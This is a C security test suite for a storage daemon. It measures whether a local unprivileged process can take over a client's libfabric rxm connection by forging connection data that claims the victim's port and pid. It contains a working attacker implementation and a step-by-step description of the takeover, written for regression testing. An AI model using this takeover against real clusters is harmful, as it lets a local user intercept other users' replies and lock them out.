/*
 * test_sec_takeover.c - a connection claimed by another process must not
 * receive a client's replies (issue 29, item 2; docs/security.md,
 * "Connection takeover").
 *
 * The attack: libfabric's rxm names a connecting peer by the source IP of
 * its TCP connection plus a port the peer *claims* in rxm's connection
 * request (union rxm_cm_data, prov/rxm/src/rxm_conn.c in libfabric 1.17:
 * rxm_process_connreq). A request claiming a port whose peer is already
 * connected replaces that connection ("old connection exists, replacing")
 * unless it also claims the same process id, which is refused as a
 * simultaneous connect. So a local user who reads the victim's listening
 * port (/proc/net/tcp shows it, with its uid) connects twice: first under
 * another pid (replacing the victim's connection), then under the victim's
 * pid (replacing its own, so that the victim's reconnects are now refused
 * as "already connected"). From then on every frame the daemon sends to
 * the victim's name goes to the attacker.
 *
 * The attacker here is a child as uid nobody with its own libfabric
 * endpoint: a plain tcp FI_EP_MSG endpoint whose connection request
 * carries hand-made rxm connection data. The victim is a raw root session
 * with storage daemon 0 that pings it. Measured: frames the attacker
 * receives (and how many are Tessera frames, and how many of those it can
 * read), and the victim's pings that fail.
 *
 * On the default transport (tcp;msg, tnet's connected mode) the claims
 * are connections of their own and the test must pass. With rxm chosen
 * explicitly (libfabric 1.17, tcp;ofi_rxm) the attack succeeds and that
 * case is skipped with its measurement as a known limit, never passed:
 * rxm accepts the claims below anything Tessera sees (docs/security.md,
 * "Connection takeover"). Any other way for the victim to lose its
 * replies fails it.
 *
 * Needs root (to drop to nobody); skipped otherwise.
 */
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <unistd.h>
#include <setjmp.h>

#include <cmocka.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_eq.h>
#include <rdma/fi_errno.h>

#include "cluster.h"

#define PINGS 4         /* the victim's calls while the attacker listens */
#define PING_WAIT_S 1.0 /* each one's patience */
#define HELD_MS 1000    /* the call in flight during the claim */
#define QUIET_S 1.5     /* how long "nothing arrives" is watched */
#define ATK_BUFS 16
#define ATK_BUF_SIZE (64 << 10)

/* rxm's connection data in libfabric 1.17 (prov/rxm/src/rxm.h, union
 * rxm_cm_data, its `connect` member): the wire format an attacker writes,
 * copied as a layout, not as code. */
struct rxm_connect_data {
	uint8_t version;      /* RXM_CM_DATA_VERSION: 1 */
	uint8_t endianness;   /* OFI_ENDIAN_LITTLE: 2 */
	uint8_t ctrl_version; /* RXM_CTRL_VERSION: 4 */
	uint8_t op_version;   /* RXM_OP_VERSION: 3 */
	uint16_t port;        /* the claim: "my listening port" (host order) */
	uint8_t flow_ctrl;    /* RXM_CM_FLOW_CTRL_PEER_OFF: 2 */
	uint8_t padding;
	uint32_t eager_limit; /* must equal the daemon's (FI_OFI_RXM_BUFFER_SIZE) */
	uint32_t rx_size;
	uint64_t client_conn_id; /* pid << 32 | peer index */
};

static int setup(void **state)
{
	if (geteuid() != 0) {
		print_message("needs root: to drop to uid %u\n", NOBODY);
		*state = NULL;
		return 0;
	}
	return cluster_setup(state, "tcp;ofi_rxm");
}

/* The default transport (tcp;msg unless TESSERA_TEST_PROVIDER says). */
static int setup_conn(void **state)
{
	if (geteuid() != 0) {
		*state = NULL;
		return 0;
	}
	return cluster_setup(state, CLUSTER_TCP);
}

static int teardown(void **state)
{
	return *state ? cluster_teardown(state) : 0;
}

/* ------------------------------------------------------------ the victim */

/* A ping in flight: the provider may hold its frame and context until
 * the send completes, which a locked-out connection may never do; such
 * a ping is left allocated rather than freed under the provider. */
struct ping_tx {
	struct tnet_ctx ctx;
	uint8_t frame[1024];
};

/* Send one PING on the victim's session, held `hold_ms` by the daemon;
 * its reqid, or 0 when it could not be sent within secs. */
static uint64_t victim_ping_send(struct raw *v, uint32_t hold_ms, double secs)
{
	static uint64_t reqid = 77000;
	Tessera__PingRequest m = TESSERA__PING_REQUEST__INIT;
	struct tp_hdr h = { .opcode = TP_OP_PING, .reqid = ++reqid };
	struct ping_tx *tx = calloc(1, sizeof(*tx));
	struct iovec iov;
	struct tnet_event ev[4];
	double end = now_s() + secs;
	long len;
	int rc;

	assert_non_null(tx);
	m.hold_ms = hold_ms;
	len = tp_frame_build(tx->frame, sizeof(tx->frame), &h, v->name, v->name_len, &m.base);
	assert_true(len > 0);
	tp_frame_seal(tx->frame, (size_t)len, NULL, 0, &v->ses, v->seq++);
	iov.iov_base = tx->frame;
	iov.iov_len = (size_t)len;
	tx->ctx.user = tx;
	while ((rc = tnet_send(v->net, v->peer, &iov, 1, &tx->ctx)) == -EAGAIN && now_s() < end) {
		for (int i = tnet_poll(v->net, ev, 4) - 1; i >= 0; i--)
			if (ev[i].type == TNET_RECV)
				tnet_repost(v->net, ev[i].rbuf);
		tnet_wait(v->net, 1);
	}
	if (rc) {
		free(tx);
		return 0;
	}
	return h.reqid;
}

/* Wait up to secs for the reply to reqid: 0 when it came, else
 * -ETIMEDOUT. Sends that complete meanwhile free their ping_tx. */
static int victim_ping_wait(struct raw *v, uint64_t reqid, double secs)
{
	struct tnet_event ev[4];
	double end = now_s() + secs;

	while (now_s() < end) {
		int n = tnet_poll(v->net, ev, 4), rc = -ETIMEDOUT;

		for (int i = 0; i < n; i++) {
			struct tp_frame f;
			char err[128];

			if (ev[i].type == TNET_SENT) {
				free(ev[i].user); /* NULL for the harness's own sends */
				continue;
			}
			if (ev[i].type != TNET_RECV)
				continue;
			if (!tp_frame_parse(ev[i].rbuf->data, ev[i].len, 1 << 21, &f, err,
					    sizeof(err)) && f.hdr.reqid == reqid)
				rc = f.hdr.status;
			tnet_repost(v->net, ev[i].rbuf);
		}
		if (rc != -ETIMEDOUT)
			return rc;
		if (!n)
			tnet_wait(v->net, 1);
	}
	return -ETIMEDOUT;
}

/* One PING answered within secs: 0, else -ETIMEDOUT. Never asserts: a
 * stalled call is what is measured. */
static int victim_ping(struct raw *v, double secs)
{
	double end = now_s() + secs;
	uint64_t reqid = victim_ping_send(v, 0, secs);

	return reqid ? victim_ping_wait(v, reqid, end - now_s()) : -ETIMEDOUT;
}

/* ---------------------------------------------------------- the attacker */

struct atk_buf {
	struct fi_context2 ctx; /* first: the completion's op_context */
	struct fid_ep *ep;
	uint8_t data[ATK_BUF_SIZE];
};

struct atk {
	struct fi_info *info;
	struct fid_fabric *fabric;
	struct fid_domain *domain;
	struct fid_eq *eq;
	struct fid_cq *cq;
	struct fid_ep *ep[2];
	struct atk_buf *bufs; /* ATK_BUFS per endpoint */
};

/* What the attacker saw, sent back to the test through a pipe. */
struct atk_result {
	int stage;        /* how far it got: 0 nothing, 1 first claim, 2 both */
	int claim_err[2]; /* each claim's outcome: 0 connected, else fi errno */
	int frames;       /* messages that arrived on its connections */
	int tessera;      /* of them, carrying a Tessera frame header */
	int readable;     /* of those, a PING reply whose body decodes */
};

/* A plain tcp message endpoint aimed at the daemon at host:port. */
static int atk_open(struct atk *a, const char *host, const char *port)
{
	struct fi_info *hints = fi_allocinfo();
	struct fi_eq_attr eq_attr = { .wait_obj = FI_WAIT_UNSPEC };
	struct fi_cq_attr cq_attr = { .format = FI_CQ_FORMAT_MSG, .size = 256,
				      .wait_obj = FI_WAIT_NONE };
	int rc;

	if (!hints)
		return -FI_ENOMEM;
	hints->caps = FI_MSG;
	hints->ep_attr->type = FI_EP_MSG;
	hints->mode = FI_CONTEXT | FI_CONTEXT2;
	hints->domain_attr->mr_mode = FI_MR_UNSPEC;
	hints->fabric_attr->prov_name = strdup("tcp");
	rc = fi_getinfo(FI_VERSION(1, 9), host, port, 0, hints, &a->info);
	fi_freeinfo(hints);
	if (rc)
		return rc;
	if ((rc = fi_fabric(a->info->fabric_attr, &a->fabric, NULL)) ||
	    (rc = fi_domain(a->fabric, a->info, &a->domain, NULL)) ||
	    (rc = fi_eq_open(a->fabric, &eq_attr, &a->eq, NULL)) ||
	    (rc = fi_cq_open(a->domain, &cq_attr, &a->cq, NULL)))
		return rc;
	a->bufs = calloc(2 * ATK_BUFS, sizeof(*a->bufs));
	return a->bufs ? 0 : -FI_ENOMEM;
}

/* Connect endpoint `which`, claiming the victim's port and process id
 * `pid`; 0 once connected, else the refusal's fi errno (positive). */
static int atk_claim(struct atk *a, int which, uint16_t port, uint32_t pid)
{
	struct rxm_connect_data cm = {
		.version = 1, .endianness = 2, .ctrl_version = 4, .op_version = 3,
		.port = port, .flow_ctrl = 2, .eager_limit = 4096, .rx_size = 256,
		.client_conn_id = (uint64_t)pid << 32 | 7,
	};
	struct fid_ep *ep;
	struct fi_eq_cm_entry entry;
	uint32_t event = 0;
	ssize_t got;
	int rc;

	if ((rc = fi_endpoint(a->domain, a->info, &ep, NULL)) ||
	    (rc = fi_ep_bind(ep, &a->eq->fid, 0)) ||
	    (rc = fi_ep_bind(ep, &a->cq->fid, FI_TRANSMIT | FI_RECV)) || (rc = fi_enable(ep)))
		return rc < 0 ? -rc : rc;
	a->ep[which] = ep;
	for (int i = 0; i < ATK_BUFS; i++) {
		struct atk_buf *b = &a->bufs[which * ATK_BUFS + i];

		b->ep = ep;
		if (fi_recv(ep, b->data, ATK_BUF_SIZE, NULL, FI_ADDR_UNSPEC, &b->ctx))
			return EIO;
	}
	if ((rc = fi_connect(ep, a->info->dest_addr, &cm, sizeof(cm))))
		return -rc;
	got = fi_eq_sread(a->eq, &event, &entry, sizeof(entry), 3000, 0);
	if (got == -FI_EAVAIL) {
		struct fi_eq_err_entry ee = { 0 };

		fi_eq_readerr(a->eq, &ee, 0);
		return ee.err ? ee.err : ECONNREFUSED;
	}
	if (got < 0)
		return (int)-got;
	return event == FI_CONNECTED ? 0 : EPROTO;
}

/* Connect endpoint `which` as a peer that says nothing of itself (no
 * connection data, so no receive buffer size): 0 once connected. */
static int atk_connect_plain(struct atk *a, int which)
{
	struct fi_eq_cm_entry entry;
	uint32_t event = 0;
	ssize_t got;
	int rc;

	if ((rc = fi_endpoint(a->domain, a->info, &a->ep[which], NULL)) ||
	    (rc = fi_ep_bind(a->ep[which], &a->eq->fid, 0)) ||
	    (rc = fi_ep_bind(a->ep[which], &a->cq->fid, FI_TRANSMIT | FI_RECV)) ||
	    (rc = fi_enable(a->ep[which])) ||
	    (rc = fi_connect(a->ep[which], a->info->dest_addr, NULL, 0)))
		return rc;
	got = fi_eq_sread(a->eq, &event, &entry, sizeof(entry), 3000, 0);
	return got >= 0 && event == FI_CONNECTED ? 0 : -EPROTO;
}

/* A message that arrived: count it, and whether it holds a Tessera frame
 * (after rxm's own header) that this process can read. */
static void atk_inspect(struct atk_result *r, const uint8_t *p, size_t len)
{
	static const uint8_t magic[4] = { 0x54, 0x53, 0x52, 0x41 }; /* TP_MAGIC, LE */

	r->frames++;
	for (size_t off = 0; off + TP_HDR_SIZE <= len; off++) {
		struct tp_frame f;
		char err[128];

		if (memcmp(p + off, magic, 4))
			continue;
		r->tessera++;
		if (!tp_frame_parse(p + off, len - off, 1 << 21, &f, err, sizeof(err)) &&
		    f.hdr.opcode == TP_OP_PING && f.hdr.status == 0) {
			ProtobufCMessage *m = tp_body_unpack(&f, &tessera__ping_reply__descriptor);

			if (m) {
				r->readable++;
				protobuf_c_message_free_unpacked(m, NULL);
			}
		}
		return;
	}
}

/* Read what arrives until the test writes to stop_fd. */
static void atk_listen(struct atk *a, struct atk_result *r, int stop_fd)
{
	struct pollfd stop = { .fd = stop_fd, .events = POLLIN };
	double end = now_s() + 60; /* never outlive a stuck test */

	while (poll(&stop, 1, 0) == 0 && now_s() < end) {
		struct fi_cq_msg_entry ent[8];
		struct fi_eq_cm_entry cm;
		uint32_t event;
		ssize_t n = fi_cq_read(a->cq, ent, 8);

		fi_eq_read(a->eq, &event, &cm, sizeof(cm), 0); /* shutdowns */
		if (n == -FI_EAVAIL) {
			struct fi_cq_err_entry ee = { 0 };

			fi_cq_readerr(a->cq, &ee, 0);
			continue;
		}
		for (ssize_t i = 0; i < n; i++) {
			struct atk_buf *b = ent[i].op_context;

			if (!(ent[i].flags & FI_RECV))
				continue;
			atk_inspect(r, b->data, ent[i].len);
			fi_recv(b->ep, b->data, ATK_BUF_SIZE, NULL, FI_ADDR_UNSPEC, &b->ctx);
		}
		if (n <= 0)
			usleep(200);
	}
}

/* The attacker's whole life, as nobody: claim the victim's name twice,
 * say so on ready_fd, listen until stop_fd, report on ready_fd. */
static int attacker(const struct tp_server *ios, uint16_t port, uint32_t victim_pid,
		    int ready_fd, int stop_fd)
{
	struct atk a = { 0 };
	struct atk_result r = { 0 };
	int rc;

	cluster_drop_to_nobody();
	rc = atk_open(&a, ios->host, ios->port);
	if (!rc) {
		r.claim_err[0] = atk_claim(&a, 0, port, victim_pid ^ 0x5a5a);
		r.stage = r.claim_err[0] ? 0 : 1;
	}
	if (r.stage == 1) {
		usleep(100 * 1000); /* the daemon's rxm processes the first */
		r.claim_err[1] = atk_claim(&a, 1, port, victim_pid);
		r.stage = r.claim_err[1] ? 1 : 2;
	}
	if (write(ready_fd, &r.stage, sizeof(r.stage)) != (ssize_t)sizeof(r.stage))
		return 3;
	if (r.stage)
		atk_listen(&a, &r, stop_fd);
	if (write(ready_fd, &r, sizeof(r)) != (ssize_t)sizeof(r))
		return 4;
	/* the process exits: its endpoints close with it */
	return rc ? 2 : 0;
}

/* ------------------------------------------------------------------ test */

/* The port the victim's name holds (rxm: its listening port), or 0 for
 * a name that is no address (connected mode: there is nothing to claim,
 * the attacker claims port 0). */
static uint16_t name_port(const struct raw *v)
{
	struct sockaddr_in sin;

	if (v->name_len != sizeof(sin))
		return 0;
	memcpy(&sin, v->name, sizeof(sin));
	return sin.sin_family == AF_INET ? ntohs(sin.sin_port) : 0;
}

/* The victim: a root session with storage daemon 0 over the cluster's
 * provider. */
static void victim_open(const struct cluster *c, const struct tp_config *cfg, struct raw *v)
{
	struct tnet_opts to = { cfg->provider, cfg->ios[0].host, cfg->ios[0].port, 0, 1 << 21, 4 };
	char err[512];

	(void)c;
	memset(v, 0, sizeof(*v));
	assert_int_equal(tnet_open(&to, &v->net, err, sizeof(err)), 0);
	v->name_len = sizeof(v->name);
	assert_int_equal(tnet_name(v->net, v->name, &v->name_len), 0);
	assert_int_equal(tnet_lookup(v->net, cfg->ios[0].host, cfg->ios[0].port, &v->peer), 0);
	raw_auth(v, cfg->munge_socket, "ios:0");
}

static void read_all(int fd, void *buf, size_t len)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };

	assert_true(poll(&p, 1, 20000) == 1);
	assert_int_equal(read(fd, buf, len), (ssize_t)len);
}

/*
 * The victim's replies must not reach a process that claims its name:
 * the attacker receives no Tessera frame, and the victim's pings are all
 * answered.
 */
static void claimed_connection(struct cluster *c)
{
	struct tp_config cfg;
	struct atk_result r;
	struct raw v;
	int ready[2], stop[2], st, stage, failed = 0, held_rc;
	uint64_t held;
	double worst = 0, after;
	int after_rc;
	char err[512];
	pid_t pid;

	assert_int_equal(tp_config_load(c->conf, &cfg, err, sizeof(err)), 0);
	victim_open(c, &cfg, &v);
	assert_int_equal(victim_ping(&v, 5), 0);
	/* A call in flight when the attacker claims the name: the daemon
	 * holds it HELD_MS, then answers. */
	held = victim_ping_send(&v, HELD_MS, 5);
	assert_true(held != 0);
	assert_int_equal(pipe(ready), 0);
	assert_int_equal(pipe(stop), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		close(ready[0]);
		close(stop[1]);
		_exit(attacker(&cfg.ios[0], name_port(&v), (uint32_t)getppid(), ready[1], stop[0]));
	}
	close(ready[1]);
	close(stop[0]);
	read_all(ready[0], &stage, sizeof(stage));
	held_rc = victim_ping_wait(&v, held, HELD_MS / 1000.0 + PING_WAIT_S);
	for (int i = 0; i < PINGS; i++) {
		double t = now_s();
		int rc = victim_ping(&v, PING_WAIT_S);

		if (rc)
			failed++;
		if (now_s() - t > worst)
			worst = now_s() - t;
	}
	assert_int_equal(write(stop[1], "x", 1), 1);
	read_all(ready[0], &r, sizeof(r));
	assert_int_equal(waitpid(pid, &st, 0), pid);
	close(ready[0]);
	close(stop[1]);
	after = now_s();
	after_rc = victim_ping(&v, 5); /* the attacker's process is gone */
	after = now_s() - after;
	print_message("takeover: attacker claims %d/2 connected (errors %d, %d); it received "
		      "%d frame(s), %d Tessera frame(s), %d readable; victim: the call in flight "
		      "%s, then %d/%d pings failed, slowest %.2f s; once the attacker exited, "
		      "a ping %s after %.2f s\n", r.stage, r.claim_err[0], r.claim_err[1],
		      r.frames, r.tessera, r.readable, held_rc ? "failed" : "answered", failed,
		      PINGS, worst, after_rc ? "failed" : "was answered", after);
	tnet_close(v.net);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	if (r.stage == 2 && (r.tessera || held_rc || failed)) {
		/* The known limit, not a pass: rxm itself accepted both claims,
		 * which nothing above it can see (docs/security.md). */
		print_message("SKIPPED, known limit (docs/security.md, \"Connection "
			      "takeover\"): the daemon's rxm accepted both claims of the "
			      "victim's name, so its replies went to the claimant and the "
			      "victim was locked out\n");
		skip();
	}
	assert_int_equal(r.tessera, 0);
	assert_int_equal(held_rc, 0);
	assert_int_equal(failed, 0);
}

/* Connected mode: a session lives on the connection that opened it. A
 * frame of the victim's session (rightly sealed: a copy of one it sent)
 * arriving on another connection is dropped unanswered, on both
 * connections, and the victim carries on. */
static void test_session_on_other_connection(void **state)
{
	struct cluster *c = *state;
	Tessera__PingRequest m = TESSERA__PING_REQUEST__INIT;
	struct tp_hdr h = { .opcode = TP_OP_PING, .reqid = 991 };
	struct tp_config cfg;
	struct tnet_opts to = { TNET_PROVIDER_CONN, NULL, NULL, 0, 1 << 21, 4 };
	struct raw v, other;
	uint8_t frame[512];
	char err[512];
	long len;

	NEED_ROOT(c);
	assert_int_equal(tp_config_load(c->conf, &cfg, err, sizeof(err)), 0);
	if (strcmp(cfg.provider, TNET_PROVIDER_CONN))
		skip(); /* TESSERA_TEST_PROVIDER chose an RDM provider */
	victim_open(c, &cfg, &v);
	memset(&other, 0, sizeof(other));
	to.node = cfg.ios[0].host;
	to.service = cfg.ios[0].port;
	assert_int_equal(tnet_open(&to, &other.net, err, sizeof(err)), 0);
	assert_int_equal(tnet_lookup(other.net, to.node, to.service, &other.peer), 0);
	len = tp_frame_build(frame, sizeof(frame), &h, v.name, v.name_len, &m.base);
	assert_true(len > 0);
	tp_frame_seal(frame, (size_t)len, NULL, 0, &v.ses, v.seq++);
	raw_send_as_is(&other, frame, (size_t)len);
	assert_int_equal(raw_arrivals(&other, QUIET_S), 0);
	assert_int_equal(raw_arrivals(&v, 0.2), 0);
	assert_int_equal(victim_ping(&v, 5), 0);
	tnet_close(other.net);
	tnet_close(v.net);
}

/*
 * A message larger than the daemon's receive buffers, from a peer that
 * ignores the size the daemon announced (tnet refuses such a send itself:
 * test_cluster's test_oversized_request). tcp cannot cut it short, so the
 * daemon cannot answer it: it closes that connection, says so in its log
 * (what arrived, the buffer's size), and serves everyone else. Before
 * the fix it parsed whatever its buffer held from an earlier message.
 */
static void test_oversized_frame(void **state)
{
	struct cluster *c = *state;
	struct tp_config cfg;
	struct atk a = { 0 };
	struct raw v;
	size_t big;
	uint8_t *msg;
	struct fi_context2 ctx;
	double end;
	int closed = 0;
	char err[512], cmd[1024];

	NEED_ROOT(c);
	assert_int_equal(tp_config_load(c->conf, &cfg, err, sizeof(err)), 0);
	if (strcmp(cfg.provider, TNET_PROVIDER_CONN))
		skip(); /* rxm answers it from the header (test_cluster) */
	victim_open(c, &cfg, &v);
	big = tp_config_max_frame(&cfg) + 4096;
	msg = calloc(1, big);
	assert_non_null(msg);
	assert_int_equal(atk_open(&a, cfg.ios[0].host, cfg.ios[0].port), 0);
	assert_int_equal(atk_connect_plain(&a, 0), 0);
	assert_int_equal(fi_send(a.ep[0], msg, big, NULL, 0, &ctx), 0);
	/* the daemon closes the connection: a shutdown, or the send fails */
	for (end = now_s() + 10; !closed && now_s() < end; usleep(1000)) {
		struct fi_cq_msg_entry ent;
		struct fi_eq_cm_entry cm;
		uint32_t event;

		if (fi_eq_read(a.eq, &event, &cm, sizeof(cm), 0) > 0 && event == FI_SHUTDOWN)
			closed = 1;
		if (fi_cq_read(a.cq, &ent, 1) == -FI_EAVAIL)
			closed = 1;
	}
	assert_true(closed);
	snprintf(cmd, sizeof(cmd), "grep -q 'dropped a message larger than the %zu-byte receive "
		 "buffer' %s/ios0.log", tp_config_max_frame(&cfg), c->dir);
	assert_int_equal(system(cmd), 0);
	assert_int_equal(victim_ping(&v, 5), 0);
	fi_close(&a.ep[0]->fid);
	fi_close(&a.cq->fid);
	fi_close(&a.eq->fid);
	fi_close(&a.domain->fid);
	fi_close(&a.fabric->fid);
	fi_freeinfo(a.info);
	free(a.bufs);
	free(msg);
	tnet_close(v.net);
}

/* rxm (tcp;ofi_rxm), chosen explicitly: the known limit, skipped with its
 * measurement. */
static void test_claimed_rxm_connection(void **state)
{
	struct cluster *c = *state;

	NEED_ROOT(c);
	claimed_connection(c);
}

/* The default transport, tnet's connected mode: the claim is a
 * connection of its own, the victim's answers stay on the victim's. */
static void test_claimed_connection(void **state)
{
	struct cluster *c = *state;

	NEED_ROOT(c);
	claimed_connection(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_claimed_rxm_connection, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claimed_connection, setup_conn, teardown),
		cmocka_unit_test_setup_teardown(test_session_on_other_connection, setup_conn,
						teardown),
		cmocka_unit_test_setup_teardown(test_oversized_frame, setup_conn, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
